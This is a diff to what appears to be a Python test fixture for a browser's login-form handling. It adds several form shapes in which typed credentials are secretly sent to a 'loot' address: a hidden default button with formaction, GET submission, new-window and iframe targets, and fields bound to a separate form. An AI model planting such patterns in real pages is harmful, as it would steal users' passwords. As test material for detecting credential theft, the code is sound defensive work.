@@ -52,9 +52,19 @@ SHAPES = {
     "taken-base": ("login", "the base of the addresses is another server"),
     "taken-script": ("login", "a script changes the form's action when it is sent"),
     "taken-get": ("login", "the button sends the form by GET"),
+    "taken-unseen": ("login", "the default button is not seen, and names another server"),
+    "taken-unseen-get": ("login", "the same, and sends by GET"),
+    "taken-unseen-window": ("login", "the same, and its answer is shown in another window"),
+    "taken-unseen-frame": ("login", "the same, and its answer is shown in a frame of another server"),
+    "taken-unseen-owner": ("login", "the fields belong to another form, by their attribute"),
     "taken-focus": ("login", "a frame of another site takes the focus all the time, and sends on what is typed there"),
     "void": ("login", "the same, and the action of the form is 'javascript:void(0)'"),
 }
+# What stands in a form without a button that is seen: Return presses it.
+UNSEEN = {
+    shape: f'<button style="display: none" formaction="{{loot}}" {how}></button>' for shape, how in {
+        "taken-unseen": "", "taken-unseen-get": 'formmethod="get"', "taken-unseen-window": 'formtarget="_blank"',
+        "taken-unseen-frame": 'formtarget="inner"', "taken-unseen-owner": 'form="owner"'}.items()}
 # Logins whose server redirects what was sent to another one (307, 308): what differs from a form with two fields.
 TAKEN_BY_REDIRECT = {
     "taken-redirect": ("the form as it is", {}),
@@ -163,13 +173,17 @@ def taken(visit, shape):
     thief = visit.own.replace("good.localhost", "localhost") + "/scripted/thief"
     by_redirect = TAKEN_BY_REDIRECT.get(shape, ("", {}))[1]
     return {
-        "form": by_redirect.get("form", ""), "field": by_redirect.get("field", ""), "start": by_redirect.get("start", ""),
+        "form": by_redirect.get("form", ""), "field": 'form="owner"' if shape == "taken-unseen-owner" else by_redirect.get("field", ""), "start": by_redirect.get("start", ""),
         "base": f'<base href="{visit.context.urls["other"]}/">' if shape == "taken-base" else "",
         "target": by_redirect.get("target", "/scripted/passed") if shape in TAKEN_BY_REDIRECT
         else "scripted/loot" if shape == "taken-base" else "/scripted/honest",
-        "button": {"taken-button": f'formaction="{loot}"', "taken-get": 'formmethod="get"'}.get(shape, ""),
+        "send": "" if shape in UNSEEN else '<button type="submit" %s>Sign in</button>' % {
+            "taken-button": f'formaction="{loot}"', "taken-get": 'formmethod="get"'}.get(shape, ""),
+        "unseen": UNSEEN.get(shape, "").replace("{loot}", loot),
         "change": f'form.action = "{loot}";' if shape == "taken-script" else by_redirect.get("change", "").replace("{loot}", loot),
         "frame": f'<iframe src="{thief}" width="300" height="60"></iframe>' if shape == "taken-focus"
+        else f'<iframe name="inner" src="{loot}"></iframe>' if shape == "taken-unseen-frame"
+        else f'<form id="owner" method="post" action="{loot}"></form>' if shape == "taken-unseen-owner"
         else by_redirect.get("frame", ""),
     }
 
